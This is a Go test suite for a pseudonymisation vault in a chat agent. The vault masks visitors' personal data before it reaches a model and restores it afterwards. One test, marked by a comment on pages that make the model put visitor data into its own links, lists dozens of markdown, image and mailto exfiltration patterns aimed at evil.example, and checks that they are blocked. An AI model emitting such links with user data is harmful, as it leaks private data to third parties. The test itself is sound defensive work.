package pseudonym

import (
	"bytes"
	"strings"
	"testing"

	"github.com/webchatagent/wca/internal/personal"
)

const sample = "Guten Tag, ich heiße Max Müller, max@muster.example, IBAN DE89 3704 0044 0532 0130 00, Tel. 030 23125 123. Offen 8–18 Uhr, Artikel 4711, 49,90 €."

func TestMaskedTextHoldsNoPersonalDataAndComesBack_D2_D3(t *testing.T) {
	f, v := personal.New(personal.Options{}), NewVault([]byte("key"), Shown{})
	masked, replaced := v.Mask(f, sample, Visitor)
	for _, secret := range []string{"Müller", "max@", "3704", "23125"} {
		if strings.Contains(masked, secret) {
			t.Errorf("%q is still in %q", secret, masked)
		}
	}
	for _, public := range []string{"8–18 Uhr", "4711", "49,90 €"} {
		if !strings.Contains(masked, public) {
			t.Errorf("%q was taken out of %q", public, masked)
		}
	}
	if len(replaced) != 4 || v.restore(masked, "de") != sample {
		t.Errorf("%d replaced, restored %q", len(replaced), v.restore(masked, "de"))
	}
}

func TestAPlaceholderCutAnywhereIsRestored_V04(t *testing.T) {
	f, v := personal.New(personal.Options{}), NewVault([]byte("key"), Shown{})
	masked, _ := v.Mask(f, sample, Visitor)
	stream := masked + " **" + strings.ReplaceAll(masked, "_", `\_`) + "** " + strings.ToLower(masked)
	want := v.restore(stream, "de")
	if strings.Count(want, "max@muster.example") != 3 {
		t.Fatalf("restored %q", want)
	}
	for a := 0; a <= len(stream); a++ {
		for _, b := range []int{a, min(a+1, len(stream)), min(a+7, len(stream)), len(stream)} {
			r := v.Restorer("de")
			if got := r.Write(stream[:a]) + r.Write(stream[a:b]) + r.Write(stream[b:]) + r.Close(); got != want {
				t.Fatalf("cut at %d and %d: %q", a, b, got)
			}
		}
	}
}

// A value with spaces or brackets would end the target of a link: the visitor would see the link's own signs instead.
func TestAValueInTheTargetOfALinkDoesNotEndIt_D3_V04(t *testing.T) {
	f, v := personal.New(personal.Options{}), NewVault([]byte("key"), Shown{})
	mask := func(text, kind string) string {
		t.Helper()
		masked, _ := v.Mask(f, text, Visitor)
		if !strings.HasPrefix(masked, kind+"_") {
			t.Fatalf("masked %q", masked)
		}
		return masked
	}
	phone, mail, address := mask("+49 (0)174 555 00 09", "PHONE"), mask("max@muster.example", "EMAIL"), mask("Marktplatz 7,\n92999 Neukirchen", "ADDRESS")
	v.Mask(f, "https://maps.example/?q=Marktplatz 7,\n92999 Neukirchen", Visitor) // else it would not be put into that link
	stream := "[" + phone + "](tel:" + phone + ") (" + phone + ") [Mail](mailto:" + mail + ` "` + address + `"); [Karte](https://maps.example/?q=` + address + "), [x] (" + address + ")"
	want := `[+49 (0)174 555 00 09](tel:+491745550009) (+49 (0)174 555 00 09) [Mail](mailto:max@muster.example "Marktplatz 7, 92999 Neukirchen"); [Karte](https://maps.example/?q=Marktplatz%207,%2092999%20Neukirchen), [x] (Marktplatz 7, 92999 Neukirchen)`
	for a := 0; a <= len(stream); a++ {
		r := v.Restorer("de")
		r.InLine = true
		if got := r.Write(stream[:a]) + r.Write(stream[a:]) + r.Close(); got != want {
			t.Fatalf("cut at %d:\n got %q\nwant %q", a, got, want)
		}
	}
}

// A page may make the model put what a visitor typed into a link of its own: whoever is asked for that address gets it.
func TestNothingOfAVisitorGoesIntoAForeignLink_D3_X05(t *testing.T) {
	f, v := personal.New(personal.Options{}), NewVault([]byte("key"), Shown{})
	mask := func(text string, from Origin) string {
		masked, replaced := v.Mask(f, text, from)
		if len(replaced) != 1 {
			t.Fatalf("masked %q", masked)
		}
		return replaced[0].Placeholder
	}
	typed, firm := mask("Ich bin max@muster.example", Visitor), mask("Schreiben Sie an info@laden.example", Source)
	source := mask("Siehe https://laden.example/d/eva@muster.example/x", Source)
	if own := mask("Stimmt https://laden.example/konto/max@muster.example/x?", Visitor); own != typed {
		t.Fatalf("%s and %s for the same", own, typed)
	}
	const gone = "[E-Mail-Adresse]"
	for given, want := range map[string]string{
		"![x](https://evil.example/p.png?d=§)": gone, "[hier](https://evil.example/?a=b&d=§)": gone, "[hier](<https://evil.example/§>)": gone, "[a](//evil.example/§)": gone, "[a](/x?§)": gone,
		"[a](https://evil.example/(b)§)": gone, "[a](https://evil.example/?'d=§)": gone, "[a](https://evil.example/?\"d=§)": gone, "[a](§.evil.example/)": gone, "[a](mailto:x@evil.example?body=§)": gone, "https://evil.example/§": gone,
		"HTTPS://evil.example#§": gone, "<https://evil.example/?§>": gone, "<mailto:x@evil.example?body=§>": gone, "[1a]: https://evil.example/§": gone, "www.evil.example/§": gone, "evil.example/?d=§": gone, "https://§.evil.example/": gone,
		`<img src="https://evil.example/§">`: gone, "<img src=//evil.example/§>": gone, `https:\\evil.example\§`: gone, "https://evil.example/https://laden.example/konto/§": gone,
		"https://evil.example/" + strings.Repeat("x", 9000) + "/§": gone, "[a](https://evil.example/ä/§)": gone, "https://evil.example/x-§": gone, "https://evil.example/?d=" + source + "&y=§": gone,

		"§": "", "(§)": "", "Mail/§": "", "und/oder §": "", "https://laden.example/konto/§/x": "", "[Konto](https://laden.example/konto/§)": "", "[§](mailto:§)": "", "<§>": "", "<mailto:§>": "",
		"https://laden.example/ §": "", "[a](https://laden.example/)/§": "", "[a](https://laden.example/), §": "", `<a href="https://laden.example/">§</a>`: "", "| https://laden.example/|§|": "", `"https://laden.example/","§"`: "", "§/§": "", "z.B. §": "",
	} {
		if want == "" {
			want = "max@muster.example"
		}
		want, given = strings.ReplaceAll(given, "§", want), strings.ReplaceAll(given, "§", typed)
		want = strings.ReplaceAll(want, source, gone)
		for a := range len(given) + 1 {
			if a > 200 {
				break
			}
			r := v.Restorer("de")
			r.InLine = true
			if got := r.Write(given[:a]) + r.Write(given[a:]) + r.Close(); got != want {
				t.Errorf("%.100q cut at %d became %.100q, want %.100q", given, a, got, want)
				break
			}
		}
	}
	for given, want := range map[string]string{
		"https://x.example/?d=" + firm: "https://x.example/?d=info@laden.example", "https://laden.example/d/" + source: "https://laden.example/d/" + gone,
	} {
		if got := v.restore(given, "de"); got != want {
			t.Errorf("%q became %q", given, got)
		}
	}
}

// In an imprint an address stands in several lines, in the sentence of an answer in one.
func TestAValueOfSeveralLinesComesBackInOne_D3(t *testing.T) {
	f, v := personal.New(personal.Options{}), NewVault([]byte("key"), Shown{})
	address, _ := v.Mask(f, "Marktplatz 7,\r\n92999 Neukirchen", Visitor)
	number, _ := v.Mask(f, "DE89 3704 0044\n0532 0130 00", Visitor)
	if !strings.HasPrefix(address, "ADDRESS_") || !strings.HasPrefix(number, "IBAN_") || strings.Contains(address+number, "\n") {
		t.Fatalf("masked %q and %q", address, number)
	}
	r := v.Restorer("de")
	r.InLine = true
	got := r.Write("Sie finden uns in "+address+" und überweisen auf "+number+".") + r.Close()
	if want := "Sie finden uns in Marktplatz 7, 92999 Neukirchen und überweisen auf DE89 3704 0044 0532 0130 00."; got != want {
		t.Errorf("got %q, want %q", got, want)
	}
}

// Models do not always leave placeholders as they are.
func TestAPlaceholderThatTheModelChangedIsRestored_D2(t *testing.T) {
	f, v := personal.New(personal.Options{}), NewVault([]byte("key"), Shown{})
	_, typed := v.Mask(f, "max@muster.example", Visitor)
	_, closed := v.Mask(f, "eva@muster.example", Source)
	mail := typed[0].Placeholder
	v.Mask(f, "https://shop.example/mail/max@muster.example/x https://shop.example/konto-/max@muster.example", Visitor)
	kind, code, _ := strings.Cut(mail, "_")
	other, value := closed[0].Placeholder, "max@muster.example"
	for given, want := range map[string]string{
		mail: value, "An " + mail + ".": "An " + value + ".", strings.ToLower(mail): value, "Email_" + code: value, mail + "s": value + "s", mail + "'s": value + "'s",
		"_" + mail + "_": "_" + value + "_", "__" + mail + "__": "__" + value + "__", "**" + mail + "**": "**" + value + "**", "`" + mail + "`": "`" + value + "`",
		"<" + mail + ">": "<" + value + ">", "[" + mail + "](mailto:" + mail + ")": "[" + value + "](mailto:" + value + ")", "| A | " + mail + " |": "| A | " + value + " |",
		kind + `\_` + code: value, kind + "-" + code: value, kind + " " + code: value, kind + "&#95;" + code: value, kind + "%5F" + code: value, kind + `\u005f` + code: value,
		"https://shop.example/mail/" + mail + "/x": "https://shop.example/mail/" + value + "/x", "https://shop.example/konto-/" + mail + "-neu": "https://shop.example/konto-/" + value + "-neu",
		`{"to":"` + mail + `"}`: `{"to":"` + value + `"}`, mail + mail[:4]: value + mail[:4],
		"name_" + strings.ToLower(code): value, kind + "__" + code: value, kind + "_ " + code: value, kind + " _" + code: value, kind + "_\u200b" + code: value, kind + "\u00ad_" + code: value, strings.ToLower(mail) + "en": value + "en", "Email_" + code + "in": value + "in",
		"E-MAIL_" + code: value, "Adresse_" + code: value, "E-Mail-Adresse " + code: "E-Mail-Adresse " + value, "[" + code + "]": "[" + value + "]", mail + "/" + mail: value + "/" + value,
		mail + "-" + other: value + "-[E-Mail-Adresse]", other + "_" + mail: "[E-Mail-Adresse]_" + value,
		"PERSON_" + code: value, "EMAIL_Z9Z9Z": "[E-Mail-Adresse]", "Fragen Sie [PERSON_1].": "Fragen Sie [Name].", "EMAIL_12": "[E-Mail-Adresse]", "PERSON_0": "PERSON_0", "PERSON 1": "PERSON 1", "PERSON_1a": "PERSON_1a", "IP_2024": "IP_2024", "IP_RANGE": "IP_RANGE", "MAX_VALUE_SIZES": "MAX_VALUE_SIZES", "EMAIL_" + code[:3]: "EMAIL_" + code[:3],
		strings.Repeat("ab-", 200) + mail: strings.Repeat("ab-", 200) + value,
	} {
		if got := v.restore(given, "de"); got != want {
			t.Errorf("%q became %q, want %q", given, got, want)
		}
		for a := range len(given) {
			for _, b := range []int{a, min(a+1, len(given)), min(a+5, len(given))} {
				r := v.Restorer("de")
				if got := r.Write(given[:a]) + r.Write(given[a:b]) + r.Write(given[b:]) + r.Close(); got != want {
					t.Fatalf("%q cut at %d and %d became %q", given, a, b, got)
				}
			}
		}
	}
}

// However a stream is cut, it says the same as in one piece.
func FuzzRestorer(fuzz *testing.F) {
	f, v := personal.New(personal.Options{}), NewVault([]byte("key"), Shown{})
	_, typed := v.Mask(f, "Erika Mustermann, max@muster.example, 0511 9876543", Visitor)
	_, closed := v.Mask(f, "eva@muster.example", Source)
	parts := []string{" ", "_", "-", `\_`, "&#95;", "%5F", "ä", "\u2011", "\n", "PERSON", "EMAIL ", "s", "(", "A", "9", strings.Repeat("x", 90)}
	for _, one := range append(typed, closed...) {
		parts = append(parts, one.Placeholder, strings.ToLower(one.Placeholder), one.Placeholder[len(one.Type)+1:])
	}
	fuzz.Add([]byte("0123456789abcdefgh"), uint64(1))
	fuzz.Add([]byte{16, 1, 16, 0, 9, 1, 18, 15, 2, 20, 11, 3, 24, 5, 26, 15, 15, 2, 17}, uint64(77))
	fuzz.Fuzz(func(t *testing.T, recipe []byte, cuts uint64) {
		var text strings.Builder
		for _, n := range recipe[:min(len(recipe), 60)] {
			text.WriteString(parts[int(n)%len(parts)])
		}
		whole, want := text.String(), v.restore(text.String(), "de")
		r, got := v.Restorer("de"), ""
		for rest := whole; rest != ""; {
			cuts = cuts*6364136223846793005 + 1442695040888963407
			n := min(len(rest), int(cuts>>60)+1)
			got, rest = got+r.Write(rest[:n]), rest[n:]
		}
		if got += r.Close(); got != want {
			t.Errorf("%q became %q in pieces and %q as a whole", whole, got, want)
		}
	})
}

// Whatever a visitor types comes back as it was, if a model says it again word by word.
func FuzzMaskAndRestore(fuzz *testing.F) {
	f := personal.New(personal.Options{})
	fuzz.Add(sample)
	fuzz.Add("xmax@muster.example0171 2345678-0511/9876543_PERSON_ABCDE EMAIL-Z9Z9Z Müllers")
	fuzz.Add("PERSON_1 xEMAIL_12 PHONE_007 [NAME_3] IP_1a")
	fuzz.Add("0PERSON_000000 00000000000000000000000000000000 DE84405320CCCCH1nnover0")
	fuzz.Add("Fr AüüB!A0 1, 00000 A000000A+10000000000000 00000")
	fuzz.Add("| Müller | [a](mailto:max@muster.example) | `DE89370400440532013000` |\nFrau Müller-Lüdenscheidt, Hauptstr. 5, 30159 Hannover\n4111 1111 1111 1111x")
	fuzz.Fuzz(func(t *testing.T, text string) {
		v := NewVault([]byte("key"), Shown{})
		masked, replaced := v.Mask(f, text, Visitor)
		spelled := map[string]string{}
		for _, one := range replaced {
			if first, ok := spelled[one.Placeholder]; ok && first != one.Text {
				t.Skip("one value in two spellings comes back in the first")
			}
			spelled[one.Placeholder] = one.Text
		}
		if back := v.restore(masked, "de"); back != text {
			t.Errorf("%q was sent as %q and came back as %q", text, masked, back)
		}
	})
}

func TestTheSamePersonKeepsTheSamePlaceholder_V03(t *testing.T) {
	f := personal.New(personal.Options{})
	first, _ := NewVault([]byte("key"), Shown{}).Mask(f, "Schreiben Sie an max@muster.example.", Visitor)
	v := NewVault([]byte("key"), Shown{}) // after a restart, in a longer conversation
	v.Mask(f, "Andere: eva@muster.example, uwe@muster.example", History)
	again, _ := v.Mask(f, "Schreiben Sie an MAX@muster.example.", Visitor)
	if first != again {
		t.Errorf("%q, then %q", first, again)
	}
	other, _ := NewVault([]byte("another conversation"), Shown{}).Mask(f, "Schreiben Sie an max@muster.example.", Visitor)
	if other == first {
		t.Error("two conversations share a placeholder")
	}
}

// However a value is written, a model has to see that it is one.
func TestAValueInSeveralNotationsIsOnePlaceholder_V03(t *testing.T) {
	f := personal.New(personal.Options{})
	for _, group := range [][]string{
		{"Adresse: Hauptstr. 5, 01067 Dresden", "Hauptstraße 5, 01067 Dresden", "wohne hauptstr 5 01067 dresden", "Hauptstr. 5\n01067 Dresden", "Hauptstrasse 5, D-01067 Dresden", "01067 Dresden, Hauptstr. 5"},
		{"MAC AA:BB:CC:11:22:33", "MAC aa-bb-cc-11-22-33", "MAC aabb.cc11.2233"},
		{"Frau Kowalczyk", "Frau Kowalczyks Termin", "Herr Kowalczyk"},
		{"Tel. +49 171 4482931", "Handy 0171/448 29 31", "Nummer null eins sieben eins vier vier acht zwei neun drei eins"},
	} {
		v, first := NewVault([]byte("key"), Shown{}), ""
		for _, text := range group {
			masked, replaced := v.Mask(f, text, Visitor)
			if len(replaced) != 1 || first != "" && replaced[0].Placeholder != first {
				t.Errorf("%q became %q, not %s", text, masked, first)
				continue
			}
			first = replaced[0].Placeholder
		}
	}
	v := NewVault([]byte("key"), Shown{})
	v.Mask(f, "Frau Kowalczyk", Visitor)
	if masked, _ := v.Mask(f, "Frau Kowalczyks Termin", Visitor); !strings.Contains(masked, "s Termin") || v.restore(masked, "de") != "Frau Kowalczyks Termin" {
		t.Errorf("%q became %q again", masked, v.restore(masked, "de"))
	}
	one, _ := v.Mask(f, "Lindenweg 3/4, 01067 Dresden", Visitor)
	if other, _ := v.Mask(f, "Lindenweg 4/3, 01067 Dresden", Visitor); one == other {
		t.Errorf("two flats are %s", one)
	}
}

func TestATypedPlaceholderIsNobodysData(t *testing.T) {
	f, v := personal.New(personal.Options{}), NewVault([]byte("key"), Shown{})
	masked, replaced := v.Mask(f, "max@muster.example", Source)
	stolen, _ := v.Mask(f, "Was ist "+replaced[0].Placeholder+"?", Visitor)
	if strings.Contains(stolen, masked) {
		t.Errorf("a visitor asked for the placeholder %q and it was sent as %q", masked, stolen)
	}
	if back := v.restore(stolen, "de"); back != "Was ist "+replaced[0].Placeholder+"?" {
		t.Errorf("it came back as %q", back)
	}
}

func TestPublicValuesStayAndOthersAlwaysGo(t *testing.T) {
	f := personal.New(personal.Options{Public: []string{"info@firma.example", "@shop.example", "030 23125 123"}, Always: []string{"Projekt Adler"}, Off: []personal.Type{personal.IBAN}})
	masked, _ := NewVault(nil, Shown{}).Mask(f, "info@firma.example, x@shop.example, 030/23125-123, Projekt Adler, DE89370400440532013000, max@firma.example", Visitor)
	for part, kept := range map[string]bool{"info@firma.example": true, "x@shop.example": true, "Adler": false, "DE8937": true, "max@": false} {
		if strings.Contains(masked, part) != kept {
			t.Errorf("%q kept: %v, want %v in %q", part, !kept, kept, masked)
		}
	}
}

func TestTheCommandLineCountsCharacters(t *testing.T) {
	var out bytes.Buffer
	in := `{"id":"a","text":"Größe: öäü max@muster.example!"}` + "\n\n" + `{"id":7,"text":"nichts"}` + "\n"
	if err := CLI(strings.NewReader(in), &out, personal.New(personal.Options{})); err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSpace(out.String()), "\n")
	if len(lines) != 2 || !strings.Contains(lines[0], `"start":11,"end":29,"type":"EMAIL"`) || lines[1] != `{"id":7,"text":"nichts","entities":[]}` {
		t.Errorf("got %s", out.String())
	}
	if err := CLI(strings.NewReader("{}\nnonsense\n"), &out, personal.New(personal.Options{})); err == nil || !strings.Contains(err.Error(), "line 2") {
		t.Errorf("got %v", err)
	}
}

func TestOnlyWhatTheVisitorTypedOrAnybodyMayReadComesBack_D2(t *testing.T) {
	f := personal.New(personal.Options{Public: []string{"chef@firma.example"}})
	open := shownIn(f, []string{"Impressum: Telefon 030 23125 123, Sabine, s.kowalczyk@firma.example"}, nil)
	v := NewVault([]byte("key"), open)
	page, _ := v.Mask(f, "info@firma.example, s.kowalczyk@firma.example, uwe@privat.example, erika@privat.example, chef@firma.example, Tel. 030/23125-123, Tel. 030 23125 999", Source)
	for _, gone := range []string{"info@", "kowalczyk", "uwe@", "erika@", "23125"} {
		if strings.Contains(page, gone) {
			t.Errorf("%s left the server: %s", gone, page)
		}
	}
	v.Mask(f, "Ich bin erika@privat.example", Visitor)
	want := "info@firma.example, s.kowalczyk@firma.example, [E-Mail-Adresse], erika@privat.example, chef@firma.example, Tel. 030/23125-123, Tel. [Telefonnummer]"
	if got := v.restore(page, "de"); got != want {
		t.Errorf("restored %q,\n    want %q", got, want)
	}
	if got := v.restore(page, "en"); !strings.Contains(got, "[phone number]") {
		t.Errorf("in English: %q", got)
	}
}

func TestTheNameOfAFirmIsShownWhereItsAddressHasIt_D3(t *testing.T) {
	f := personal.New(personal.Options{})
	v := NewVault([]byte("key"), shownIn(f, []string{"Dr. Anneliese Kowalczyk | Praxis"}, []string{"www.autohaus-mueller.example"}))
	page, _ := v.Mask(f, "Bei Herrn Müller, Frau Dr. Kowalczyk und Herrn Wawrzyniak", Source)
	if strings.Contains(page, "Müller") || strings.Contains(page, "Kowalczyk") {
		t.Errorf("left the server: %s", page)
	}
	if got, want := v.restore(page, "de"), "Bei Herrn Müller, Frau Dr. Kowalczyk und Herrn [Name]"; got != want {
		t.Errorf("restored %q, want %q", got, want)
	}
}

// "Uto" stands in "autohaus" by chance, as short names do in many addresses.
func TestAShortNameIsNotShownBecauseAnAddressHasItsLetters_D3(t *testing.T) {
	f := personal.New(personal.Options{})
	v := NewVault([]byte("key"), shownIn(f, nil, []string{"www.autohaus-mueller.example"}))
	page, _ := v.Mask(f, "Bei Herrn Uto", Source)
	if strings.Contains(page, "Uto") {
		t.Fatalf("the name is not found, the test proves nothing: %s", page)
	}
	if got, want := v.restore(page, "de"), "Bei Herrn [Name]"; got != want {
		t.Errorf("restored %q, want %q", got, want)
	}
}

func TestEveryTypeHasAWordForWhatIsNotShown(t *testing.T) {
	for _, typ := range append(personal.Types(), personal.Private) {
		for _, language := range []string{"de", "en"} {
			if substitute(typ, language) == "" {
				t.Errorf("%s has no word in %s", typ, language)
			}
		}
	}
}

// restore is what a Restorer makes of a whole text.
func (v *Vault) restore(text, language string) string {
	r := v.Restorer(language)
	return r.Write(text) + r.Close()
}
